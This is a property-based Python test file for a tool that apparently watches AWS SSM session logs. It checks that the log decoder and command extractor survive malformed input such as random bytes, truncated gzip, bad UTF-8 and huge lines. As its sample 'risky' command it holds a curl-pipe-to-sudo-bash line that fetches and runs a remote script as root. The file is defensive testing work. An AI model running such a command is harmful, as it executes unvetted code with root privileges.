"""Property-based: the session-log decoder and the command extractor against hostile input.

Random bytes, truncated gzip, JSON of the wrong shape, invalid UTF-8, deep nesting and huge lines
(sizes bounded so the suite stays fast). The decoder may reject a payload it cannot read as a whole
(``MalformedEventError``: reported, not retried) and report a log event it cannot read; it never
raises anything else, and one bad event never costs the others. The extractor never raises, and the
state it hands to the ledger stays small and reads back as itself.
"""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable
from typing import Any

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ssm_warden.errors import MalformedEventError
from ssm_warden.logs.payload import SessionLogBatch, open_subscription
from ssm_warden.transcript.extract import Extractor, WatchState
from tests.integration.faults.conftest import FaultRow
from tests.unit.logs.builders import log_event, payload, streamed, wrap

Row = Callable[[str, str], FaultRow]
PROMPT = "[ec2-user@ip-10-0-0-1 ~]$ "
RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
SETTINGS = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
STATE_LIMIT = 128 * 1024  # far under DynamoDB's 400 KB item, which also holds the session


def open_or_reject(event: Any) -> SessionLogBatch | None:
    """The payload's batch, or None when it is rejected as a whole with ``MalformedEventError``."""
    try:
        return open_subscription(event)
    except MalformedEventError:
        return None


def accounted(batch: SessionLogBatch) -> tuple[int, int]:
    """(events decoded, events reported) after reading every log event of the batch."""
    total = len(batch.raw_events)
    reported_before = len(batch.malformed)
    lines, skipped = batch.event_lines()
    reported = len(batch.malformed) - reported_before
    assert len(lines) + skipped + reported == total
    return len(lines), reported


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=16,
)
messages = st.one_of(
    st.text(max_size=300),
    st.lists(st.text(max_size=80), max_size=6).map(streamed),
    st.builds(lambda v: json.dumps({"sessionId": "s", "sessionData": v}), json_values),
    st.text(alphabet='{}[]",:0a \\', max_size=200),
    st.integers(1, 3000).map(lambda depth: '{"a":' * depth),
)
raw_events = st.one_of(
    json_values,
    st.fixed_dictionaries(
        {
            "id": st.one_of(st.integers(0, 10**60).map(str), st.text(max_size=12), st.integers()),
            "timestamp": st.one_of(st.integers(0, 2**45), st.text(max_size=5), st.floats()),
            "message": st.one_of(messages, json_values),
        }
    ),
)
GOOD = log_event(10**6, streamed([f"{PROMPT}{RISKY}"]))


@SETTINGS
@given(data=st.text(max_size=200))
@example(data="é")
@example(data="")
def test_awslogs_data_that_is_any_text_is_rejected_not_raised(fault_row: Row, data: str) -> None:
    row = fault_row("Malformed: awslogs.data any text", "hypothesis: text <= 200 chars (non-ASCII too)")
    row.observe(isolated="payload rejected alone", delivered="n/a", duplicates="n/a")
    assert open_or_reject({"awslogs": {"data": data}}) is None


@SETTINGS
@given(blob=st.binary(max_size=4096), compress=st.booleans())
def test_random_bytes_and_gzip_of_random_bytes_are_rejected(
    fault_row: Row, blob: bytes, compress: bool
) -> None:
    row = fault_row("Malformed: random bytes", "hypothesis: bytes <= 4 KB, raw or gzip'd, base64'd")
    row.observe(isolated="payload rejected alone", delivered="n/a", duplicates="n/a")
    event = wrap(gzip.compress(blob) if compress else blob)
    batch = open_or_reject(event)
    if batch is not None:  # random bytes that happen to be a payload must still decode cleanly
        accounted(batch)


@SETTINGS
@given(cut=st.floats(0.0, 1.0, exclude_max=True))
def test_a_truncated_gzip_stream_is_rejected(fault_row: Row, cut: float) -> None:
    row = fault_row("Malformed: truncated gzip", "hypothesis: a real payload cut at any byte")
    row.observe(isolated="payload rejected alone", delivered="n/a", duplicates="n/a")
    compressed = base64.b64decode(payload([GOOD])["awslogs"]["data"])
    assert open_or_reject(wrap(compressed[: int(len(compressed) * cut)])) is None


@SETTINGS
@given(document=json_values)
@example(document={"messageType": "DATA_MESSAGE", "logStream": "s", "logEvents": [[[[]]]]})
def test_a_payload_of_the_wrong_json_shape_is_rejected_or_accounted_for(
    fault_row: Row, document: Any
) -> None:
    row = fault_row("Malformed: wrong JSON (payload)", "hypothesis: any JSON document as the payload")
    row.observe(isolated="payload rejected alone", delivered="n/a", duplicates="n/a")
    batch = open_or_reject(wrap(gzip.compress(json.dumps(document).encode())))
    if batch is not None:
        accounted(batch)


@SETTINGS
@given(events=st.lists(raw_events, max_size=8), position=st.integers(0, 8))
@example(events=[log_event(1, '{"a":' * 50_000)], position=1)
@example(events=[log_event(1, '{"sessionData": ' + "[" * 50_000)], position=0)
@example(events=[{"id": "7" * 5000, "timestamp": 1, "message": "x"}], position=0)
def test_one_bad_log_event_never_costs_the_others(fault_row: Row, events: list[Any], position: int) -> None:
    row = fault_row(
        "Malformed log events (wrong JSON, deep nesting, odd ids)",
        "hypothesis: 0-8 events of any shape around one good event",
    )
    # Given a payload whose log events are of any shape, with one good risky event among them
    batch = open_or_reject(payload([*events[:position], GOOD, *events[position:]]))
    # Then the payload opens, every event is decoded or reported, and the good one is decoded
    assert batch is not None
    decoded, _ = accounted(batch)
    row.observe(isolated=decoded >= 1, delivered="n/a", duplicates="n/a")
    assert decoded >= 1


@SETTINGS
@given(
    junk=st.binary(min_size=1, max_size=16).map(lambda b: bytes(0x80 | x for x in b)), at=st.integers(0, 2)
)
def test_invalid_utf8_loses_only_the_event_that_carries_it(fault_row: Row, junk: bytes, at: int) -> None:
    row = fault_row("Malformed: invalid UTF-8", "hypothesis: bytes 0x80-0xFF inside one of 3 messages")
    # Given three events, one of whose messages holds invalid UTF-8 bytes
    texts = ["first", "second", "third"]
    texts[at] = "MARK"
    document = json.loads(
        gzip.decompress(
            base64.b64decode(payload([log_event(n, t) for n, t in enumerate(texts)])["awslogs"]["data"])
        )
    )
    raw = json.dumps(document).encode().replace(b"MARK", b"a" + junk + b"z")
    batch = open_or_reject(wrap(gzip.compress(raw)))
    # Then the other two are decoded, and the bad one is reported
    assert batch is not None
    decoded, reported = accounted(batch)
    row.observe(isolated=decoded == 2, delivered="n/a", duplicates="n/a")
    # (bytes that happen to decode, e.g. a valid multi-byte sequence, cost nothing)
    assert decoded + reported == 3 and decoded >= 2


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(size=st.integers(10_000, 300_000), streamed_event=st.booleans())
def test_huge_lines_are_decoded_and_the_command_after_them_is_found(
    fault_row: Row, size: int, streamed_event: bool
) -> None:
    row = fault_row("Huge lines", "hypothesis: one line of 10-300 KB before a risky command")
    huge = "A" * size
    message = streamed([huge, f"{PROMPT}{RISKY}"]) if streamed_event else f"{huge}\n{PROMPT}{RISKY}\n"
    batch = open_or_reject(payload([log_event(0, message)]))
    assert batch is not None
    lines, _ = batch.event_lines()
    extractor = Extractor()
    extractor.feed_events(lines.event_ids, lines.starts, lines.lines)
    found = [c.text for c in extractor.result.commands]
    row.observe(isolated="n/a", delivered=found == [RISKY], duplicates="n/a")
    assert found == [RISKY]


shell_lines = st.lists(
    st.one_of(
        st.builds(lambda c: PROMPT + c, st.text(alphabet="abc $|&;<>'\"\\(){}#-=\t\x1b[\b\r^", max_size=60)),
        st.builds(lambda c: "> " + c, st.text(max_size=40)),
        st.sampled_from(
            ["EOF", "done", "fi", "PS C:\\> ", ">> ", "# ", "$ ", "sh-4.2$ sh-4.2$ bash", "\x1b[?2004h"]
        ),
        st.text(max_size=80),
        st.integers(1, 20_000).map(lambda n: PROMPT + "echo " + "x" * n + " \\"),
    ),
    max_size=40,
)


@SETTINGS
@given(events=st.lists(shell_lines, min_size=1, max_size=4), split=st.integers(0, 4))
def test_the_extractor_takes_any_terminal_text_and_keeps_a_small_state(
    fault_row: Row, events: list[list[str]], split: int
) -> None:
    row = fault_row(
        "Extractor: hostile terminal text",
        "hypothesis: prompts, quotes, heredocs, escapes, 20 KB continued lines",
    )
    ids = [str(1000 + k) for k in range(len(events))]
    found = []
    extractor = Extractor()
    for k, (event_id, lines) in enumerate(zip(ids, events, strict=True)):
        if k == split:  # a new invocation: the state goes through the ledger as JSON and back
            stored = json.dumps(extractor.state.model_dump(mode="json"))
            assert len(stored) < STATE_LIMIT
            assert WatchState.model_validate(json.loads(stored)) == extractor.state
            found.extend(extractor.result.commands)
            extractor = Extractor(WatchState.model_validate(json.loads(stored)))
        extractor.feed(event_id, lines)
    found.extend(extractor.result.commands)
    stored = json.dumps(extractor.state.model_dump(mode="json"))
    row.observe(
        isolated="n/a", delivered="n/a", duplicates=len({c.source_id for c in found}) - len(found) or 0
    )
    assert len(stored) < STATE_LIMIT
    assert all(c.event_id in ids for c in found)
    assert len({c.source_id for c in found}) == len(found)
